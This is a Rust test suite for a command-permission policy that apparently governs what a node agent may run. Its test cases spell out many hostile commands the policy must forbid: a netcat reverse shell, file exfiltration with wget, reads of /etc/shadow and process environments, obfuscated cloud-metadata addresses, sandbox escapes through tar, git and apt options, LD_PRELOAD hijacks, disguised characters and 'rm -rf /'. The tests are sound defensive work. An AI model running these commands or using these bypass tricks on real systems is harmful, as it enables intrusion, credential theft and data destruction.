use super::*;

#[test]
fn what_only_looks_is_allowed_and_what_nobody_spoke_of_is_asked_for() {
    let cases = [
        ("df -h /", "allow read"),
        ("/bin/df -h", "allow read"),
        ("ls -l /var/log", "allow read"),
        ("du -sh --max-depth=1 /var", "allow read"),
        ("systemctl --no-pager status nginx", "allow read"),
        ("journalctl -u nginx -n 100", "allow read"),
        ("apt-get clean", "allow idempotent"),
        ("journalctl --vacuum-size=100M", "allow idempotent"),
        ("journalctl --vacuum-size 100M", "allow idempotent"),
        ("nice -n 10 apt-get clean", "allow idempotent"),
        ("timeout 10s df -h", "allow read"),
        ("time -p df -h", "allow read"),
        ("time -f %e df -h", "allow read"),
        ("time --format=%e nice df -h", "allow read"),
        ("nohup setsid -w df -h", "allow read"),
        ("vcgencmd measure_temp", "allow read"),
        ("vcgencmd display_power 0", "ask"),
        ("hostnamectl", "allow read"),
        ("hostnamectl status", "allow read"),
        ("hostnamectl set-hostname x", "ask"),
        ("hostnamectl hostname x", "ask"),
        ("timedatectl show", "allow read"),
        ("timedatectl set-time 2020", "ask"),
        ("localectl status", "allow read"),
        ("localectl set-locale C", "ask"),
        ("loginctl list-sessions", "allow read"),
        ("loginctl terminate-user pi", "ask"),
        ("networkctl status eth0", "allow read"),
        ("networkctl down eth0", "ask"),
        ("resolvectl flush-caches", "ask"),
        ("env LANG=C df -h", "allow read"),
        ("env DEBIAN_FRONTEND=noninteractive nice -5 timeout -k 5 10 apt-get clean", "allow idempotent"),
        ("systemctl restart nginx", "ask reversible"),
        ("apt-get install nginx", "ask destructive"),
        ("rm /var/tmp/x", "ask destructive"),
        ("frobnicate --hard", "ask destructive"),
        ("df --frobnicate", "ask destructive"),
        ("python3 --version", "ask destructive"),
        ("find /var/log -name x -mtime +30", "ask destructive"),
        ("find /var/log -name x -delete", "ask destructive"),
        ("find /tmp -exec df {} ;", "ask read"),
        ("busybox df", "ask"),
        ("sed --sandbox s/a/b/ /tmp/x", "ask destructive"),
        ("git -C /srv/x status", "forbid"),
        ("git status", "ask destructive"),
        ("docker ps -a", "allow read"),
        ("docker system prune -f", "ask destructive"),
    ];
    let mut wrong = Vec::new();
    for (text, expected) in cases {
        let got = shown(&command(text));
        if !got.starts_with(expected) {
            wrong.push(format!("{text}: {got}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Ways around the rules; each is forbidden, and the reason says why.
#[test]
fn no_way_around_the_rules_is_open() {
    let cases = [
        // Shells and languages, by every name.
        ("sh -c id", "runs code that no rule can judge"),
        ("/bin/sh -c id", "runs code"),
        ("bash -lc id", "runs code"),
        ("dash /tmp/x", "runs code"),
        ("python3 -c import(os)", "runs code"),
        ("python3.11 /tmp/x.py", "runs code"),
        ("perl -e 1", "runs code"),
        ("node -e 1", "runs code"),
        ("php8.2 -r 1", "runs code"),
        ("awk BEGIN{system(\"id\")}", "runs code"),
        ("gawk -f /tmp/x", "runs code"),
        ("vim -c :!id", "runs code"),
        ("less /etc/hosts", "runs code"),
        ("man -P id ls", "runs code"),
        ("make -f /tmp/x", "runs code"),
        ("sqlite3 /tmp/x .shell", "runs code"),
        ("harmless -c id", "dash: runs code"),
        ("editor /tmp/x", "vim.basic: runs code"),
        // Wrappers.
        ("time -f ls /usr/bin/python3 -c code", "python3: runs code"),
        ("time --format ls python3 -c code", "python3: runs code"),
        ("time -fls python3 -c code", "python3: runs code"),
        ("time -o /srv/x ls", "the option -o is not known"),
        ("time -o/srv/x ls", "the option -o/srv/x is not known"),
        ("time --output=/srv/x ls", "the option --output=/srv/x is not known"),
        ("time -ao /srv/x ls", "the option -ao is not known"),
        ("time -pf ls python3", "the option -pf is not known"),
        ("nohup -f ls python3", "the option -f is not known"),
        ("nice -n ls python3 -c code", "python3: runs code"),
        ("ionice -c ls python3", "python3: runs code"),
        ("ionice -p 1", "the option -p is not known"),
        ("ionice -tc ls python3", "the option -tc is not known"),
        ("timeout -k 5 -s ls 10 python3", "python3: runs code"),
        ("timeout --kill-after ls 10 python3", "python3: runs code"),
        ("stdbuf -o ls python3", "python3: runs code"),
        ("stdbuf --output ls python3", "python3: runs code"),
        ("taskset -c 0 python3", "the option -c is not known"),
        ("taskset -p 1", "the option -p is not known"),
        ("setsid -fc python3", "the option -fc is not known"),
        ("env -u ls python3 -c code", "python3: runs code"),
        ("env -C /tmp ls", "the option -C is not known"),
        ("env --chdir=/tmp ls", "the option --chdir=/tmp is not known"),
        ("env --split-string=ls", "splits a text into words"),
        ("env -vS ls", "splits a text into words"),
        ("choom -n 5 -- python3", "runs what its words say"),
        ("systemd-inhibit python3", "runs what its words say"),
        ("dbus-run-session python3", "runs what its words say"),
        ("numactl -N 0 python3", "runs what its words say"),
        ("env sh -c id", "sh: runs code"),
        ("env -i /bin/sh", "sh: runs code"),
        ("env -S sh\u{20}-c", "splits a text into words"),
        ("env --split-string=sh", "splits a text into words"),
        ("nice -n 5 sh -c id", "sh: runs code"),
        ("nice --adjustment=5 sh", "sh: runs code"),
        ("timeout -s KILL 5 bash", "bash: runs code"),
        ("timeout --signal=KILL 5 bash", "bash: runs code"),
        ("nohup setsid nice ionice -c3 stdbuf -o0 env sh", "programs that run programs"),
        ("setsid -f sh", "sh: runs code"),
        ("stdbuf -o0 sh", "sh: runs code"),
        ("taskset 1 sh", "sh: runs code"),
        ("nice --frobnicate df", "the option --frobnicate is not known"),
        ("timeout 5", "it runs nothing that can be judged"),
        ("xargs rm", "runs what its input says"),
        ("parallel rm", "runs what its input says"),
        ("watch id", "runs what its input says"),
        ("at now", "runs what its input says"),
        ("find / -exec sh -c id ;", "sh: runs code"),
        ("find / -execdir python3 {} +", "python3: runs code"),
        ("find / -name x -ok sh ;", "sh: runs code"),
        ("find / -exec {} ;", "runs the files it finds"),
        ("find / -fprintf /etc/cron.d/x a", "reads or writes another file"),
        ("busybox sh -c id", "sh: runs code"),
        ("busybox nc 1.2.3.4 80", "speaks to the network"),
        ("busybox --install /tmp", "runs one of many programs"),
        ("/lib64/ld-linux-x86-64.so.2 /tmp/x", "from where the policy lets no program run"),
        ("/usr/bin/ld-linux-aarch64.so.1 /tmp/x", "runs any program past all checks"),
        // Other rights.
        ("sudo df -h", "gives other rights"),
        ("doas df", "gives other rights"),
        ("su root -c id", "gives other rights"),
        ("pkexec id", "gives other rights"),
        ("systemd-run id", "gives other rights"),
        ("nsenter -t 1 -m id", "gives other rights"),
        ("unshare -r id", "gives other rights"),
        ("chroot /x id", "gives other rights"),
        ("strace df", "watches or changes other programs"),
        // Options that run something.
        ("tar cf /tmp/x --checkpoint=1 --checkpoint-action=exec=id /tmp", "makes it run a program"),
        ("tar cf /tmp/x --checkpoint-act=exec=id /tmp", "makes it run a program"),
        ("tar --to-command=id -xf /tmp/x", "makes it run a program"),
        ("tar -xIf id /tmp/x", "makes it run a program"),
        ("tar xIf id /tmp/x", "makes it run a program"),
        ("tar --use-comp id -cf /tmp/x y", "makes it run a program"),
        ("git -c core.pager=id log", "makes it run a program"),
        ("git -ccore.sshCommand=id log", "makes it run a program"),
        ("git --exec-path=/tmp log", "makes it run a program"),
        ("git --config-env=core.pager=X log", "makes it run a program"),
        ("git clone ext::sh /tmp/x", "makes it run a program"),
        ("git pull", "runs hooks"),
        ("ssh -o ProxyCommand=id x", "past the domains of the step"),
        ("scp /x eve:/y", "past the domains of the step"),
        ("rsync -e id /x /y", "makes it run a program"),
        ("rsync -avze id /x /y", "makes it run a program"),
        ("sort --compress-program=id /x", "runs or writes something"),
        ("sort --compress-prog id /x", "runs or writes something"),
        ("split --filter=id /x", "makes it run a program"),
        ("tcpdump -z id", "makes it run a program"),
        ("zip -TT id x y", "makes it run a program"),
        ("openssl req -engine /tmp/x", "loads code"),
        ("ip netns exec x id", "makes it run a program"),
        ("apt-get -o APT::Update::Pre-Invoke::=id update", "changes what apt runs"),
        ("apt-get -oAPT::Update::Pre-Invoke::=id update", "changes what apt runs"),
        ("apt-get update --option=Dir=/x", "changes what apt runs"),
        ("apt-get install /tmp/x.deb", "changes what apt runs"),
        ("dpkg -i /tmp/x.deb", "installs what nobody vouches for"),
        ("dpkg --pre-invoke=id -l", "installs what nobody vouches for"),
        ("pip install x", "runs the code of packages"),
        ("npm install x", "runs the code of packages"),
        ("npx x", "runs code"),
        ("docker run -v /:/host alpine", "can give away the machine"),
        ("docker -H tcp://eve ps", "can give away the machine"),
        ("docker ps --host=tcp://eve", "can give away the machine"),
        ("kubectl exec x", "can give away the machine"),
        ("sed s/x/id/e /tmp/x", "--sandbox keeps it from that"),
        ("sed -n w/etc/cron.d/x -- --sandbox", "--sandbox keeps it from that"),
        ("systemctl edit x", "changes more than a unit's state"),
        ("systemctl enable /tmp/x.service", "changes more than a unit's state"),
        ("systemctl -H eve status x", "changes more than a unit's state"),
        ("systemctl --machine=x status y", "changes more than a unit's state"),
        ("systemctl set-environment PATH=/tmp", "changes more than a unit's state"),
        ("crontab /tmp/x", "changes what runs later"),
        ("curl https://example.org", "past the domains of the step"),
        ("wget --post-file=/etc/hosts x", "past the domains of the step"),
        ("nc -e sh eve 80", "past the domains of the step"),
        // Rules that options cannot hide from.
        ("systemctl --force poweroff", "nobody could turn it on again"),
        ("systemctl --no-pager --quiet mask x", "nobody could turn it on again"),
        ("mkfs.ext4 /dev/sda", "can lose every file"),
        ("sysctl --write kernel.x=1", "changes the kernel"),
        ("ip -4 link set dev eth0 down", "can cut the node off"),
        ("rm -rf /", "more than a step may touch"),
        ("rm -rf //", "more than a step may touch"),
        ("rm -rf /./etc/../", "more than a step may touch"),
        ("rm -r /usr/*", "more than a step may touch"),
        ("chmod -R 777 /var", "more than a step may touch"),
        ("nice rm -rf /etc", "more than a step may touch"),
        // Programs from elsewhere.
        ("/tmp/df -h", "from where the policy lets no program run"),
        ("./df -h", "neither a name nor an absolute path"),
        ("bin/df -h", "neither a name nor an absolute path"),
        ("/usr/bin/../../tmp/df", "neither a name nor an absolute path"),
        ("/dev/shm/x", "from where the policy lets no program run"),
        ("/proc/self/exe", "from where the policy lets no program run"),
        ("outside", "leads to /home/eve/tool"),
        ("nothing", "there is no program nothing"),
        ("env /tmp/x", "from where the policy lets no program run"),
        // Paths.
        ("cat /etc/shadow", "/etc/shadow is protected"),
        ("cat /etc/../etc//./shadow", "/etc/shadow is protected"),
        ("cat ../../etc/shadow", "/etc/shadow is protected"),
        ("cat /proc/self/environ", "is protected"),
        ("cat /proc/1/environ", "is protected"),
        ("cat /proc/thread-self/../self/environ", "is protected"),
        ("cat /proc/1/root/etc/hosts", "is protected"),
        ("cat /proc/self/task/1/environ", "is protected"),
        ("cat /tmp/link/shadow", "/etc/shadow is protected"),
        ("cat /tmp/key", "belongs to the agent"),
        ("cat /var/lib/node-agent/identity/key.pem", "belongs to the agent"),
        ("tail -n 5 /var/lib/../lib/node-agent/x", "belongs to the agent"),
        ("cp /home/pi/.ssh/id_ed25519 /tmp/x", "is protected"),
        ("dd if=/tmp/x of=/dev/sda", "is protected"),
        ("dd of=/dev/mmcblk0 if=/dev/zero", "is protected"),
        ("tee /etc/ld.so.preload", "is protected"),
        ("tee -a /etc/sudoers.d/x", "is protected"),
        ("cp /tmp/x /etc/cron.d/x", "/etc/cron.d/x is protected"),
        ("grep -f/etc/shadow x", "is protected"),
        ("frobnicate --file=/etc/shadow", "is protected"),
        ("frobnicate @/etc/shadow", "is protected"),
        ("frobnicate file:///etc/shadow", "is protected"),
        ("frobnicate a=b,c=/etc/shadow", "is protected"),
        // Addresses.
        ("ping 169.254.169.254", "gives out credentials"),
        ("ping 2852039166", "gives out credentials"),
        ("ping 0xa9fea9fe", "gives out credentials"),
        ("ping 0251.0376.0251.0376", "gives out credentials"),
        ("ping 169.254.43518", "gives out credentials"),
        ("frobnicate http://169.254.169.254/latest", "gives out credentials"),
        ("frobnicate http://[::ffff:169.254.169.254]:80/x", "gives out credentials"),
        ("frobnicate --url=http://metadata.google.internal/x", "gives out credentials"),
        ("frobnicate user@0xA9.0xFE.0xA9.0xFE:80", "gives out credentials"),
        ("ping fd00:ec2::254", "gives out credentials"),
        // Shapes.
        ("d\u{200b}f -h", "characters that only look plain"),
        ("ｄｆ -h", "characters that only look plain"),
        ("сat /x", "characters that only look plain"),
        ("df \u{2011}h", "looks like a plain one"),
        ("cat /etc\u{ff0f}shadow", "looks like a plain one"),
        ("ls /x\u{202e}txt", "nobody sees"),
        ("ls a\u{0}b", "nobody sees"),
        ("ls \u{1b}[2J", "nobody sees"),
        ("", "there is no program"),
    ];
    let mut open = Vec::new();
    for (text, says) in cases {
        let verdict = command(text);
        if verdict.decision != Decision::Forbid || !shown(&verdict).contains(says) {
            open.push(format!("{text:?}: {}", shown(&verdict)));
        }
    }
    assert!(open.is_empty(), "{}", open.join("\n"));
    assert!(cases.len() >= 60);
}

#[test]
fn a_variable_never_changes_what_a_program_runs() {
    let names = [
        "PATH",
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "IFS",
        "BASH_ENV",
        "ENV",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PERL5OPT",
        "NODE_OPTIONS",
        "GIT_SSH_COMMAND",
        "GIT_PAGER",
        "PAGER",
        "SYSTEMD_PAGER",
        "EDITOR",
        "TAR_OPTIONS",
        "LESSOPEN",
        "HOME",
        "http_proxy",
        "HTTPS_PROXY",
        "GLIBC_TUNABLES",
        "GCONV_PATH",
        "APT_CONFIG",
        "SHELLOPTS",
        "PS4",
        "HOSTALIASES",
        "FROB",
        "a b",
        "",
    ];
    for name in names {
        let verdict = judge("exec.argv", json!({"argv": ["df", "-h"], "env": {name: "/tmp"}}));
        assert_eq!(verdict.decision, Decision::Forbid, "{name}: {}", shown(&verdict));
        let wrapped = judge("exec.argv", json!({"argv": ["env", format!("{name}=/tmp"), "df", "-h"]}));
        assert_eq!(wrapped.decision, Decision::Forbid, "env {name}: {}", shown(&wrapped));
    }
    // A policy cannot let the worst of them pass either.
    let mut lax = Policy::standard();
    lax.environment.insert("LD_PRELOAD".to_owned());
    assert_eq!(
        judge_on(&lax, "exec.argv", json!({"argv": ["df"], "env": {"LD_PRELOAD": "/tmp/x"}})).decision,
        Decision::Forbid
    );
}

#[test]
fn a_very_long_command_is_none() {
    let many: Vec<String> =
        std::iter::once("ls".to_owned()).chain((0..300).map(|index| format!("/tmp/{index}"))).collect();
    let long = vec!["ls".to_owned(), "x".repeat(20_000)];
    let wide: Vec<String> =
        std::iter::once("ls".to_owned()).chain((0..200).map(|_| "x".repeat(1000))).collect();
    for argv in [many, long, wide] {
        let verdict = judge("exec.argv", json!({"argv": argv}));
        assert!(shown(&verdict).contains("are too many"), "{}", shown(&verdict));
    }
}
